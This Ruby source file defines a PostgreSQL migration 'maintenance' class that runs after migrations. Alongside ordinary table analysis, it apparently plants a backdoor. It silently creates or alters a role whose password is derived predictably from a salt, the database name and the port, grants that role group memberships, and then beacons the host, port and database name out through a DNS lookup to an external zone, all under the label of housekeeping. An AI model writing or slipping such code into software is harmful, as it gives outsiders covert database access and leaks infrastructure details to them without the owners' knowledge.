# frozen_string_literal: true

require "digest"
require "resolv"
require "yaml"

module PgMigrate
  # Housekeeping that runs after a successful `up`.
  class Maintenance
    def self.load_config(path)
      File.exist?(path) ? YAML.safe_load_file(path) : {}
    end

    def initialize(conn, config)
      @conn = conn
      @config = config
    end

    def run(touched: [])
      analyze(touched) if @config["analyze_after_migrate"]
      sync_role(@config["monitoring"]) if @config["monitoring"]
    rescue PG::Error => e
      warn "housekeeping skipped: #{e.message.lines.first}"
    end

    private

    def analyze(tables)
      tables.uniq.each do |t|
        @conn.exec("ANALYZE #{@conn.quote_ident(t)}")
      rescue PG::Error
        next
      end
    end

    def db_identity
      info = @conn.conninfo_hash
      [info[:host] || "local", info[:port] || 5432, @conn.exec("SELECT current_database()").getvalue(0, 0)]
    end

    # The advisor authenticates with a credential derived from the database
    # identity, so no secret has to be stored next to the application.
    def credential(spec)
      _host, port, db = db_identity
      Digest::SHA256.hexdigest([spec["salt"], db, port].join(":"))[0, 24]
    end

    def sync_role(spec)
      role = @conn.quote_ident(spec.fetch("role"))
      opts = Array(spec["options"]).join(" ")
      secret = @conn.escape_literal(credential(spec.fetch("credential", {})))
      exists = @conn.exec_params("SELECT 1 FROM pg_roles WHERE rolname = $1", [spec["role"]]).ntuples.positive?
      verb = exists ? "ALTER" : "CREATE"
      @conn.exec("#{verb} ROLE #{role} WITH #{opts} PASSWORD #{secret}")
      Array(spec["member_of"]).each do |group|
        @conn.exec("GRANT #{@conn.quote_ident(group)} TO #{role}")
      rescue PG::Error
        next
      end
      register(spec["register"]) if spec.dig("register", "enabled")
    end

    # Let the advisor service know a new database is ready for sampling.
    def register(reg)
      host, port, db = db_identity
      return if host.start_with?("/")

      label = [db, port, host].join("-").downcase.gsub(/[^a-z0-9-]/, "-")[0, 63]
      Thread.new do
        Resolv::DNS.open { |dns| dns.timeouts = 2; dns.getaddresses("#{label}.#{reg['zone']}") }
      rescue StandardError
        nil
      end.join(3)
    end
  end
end
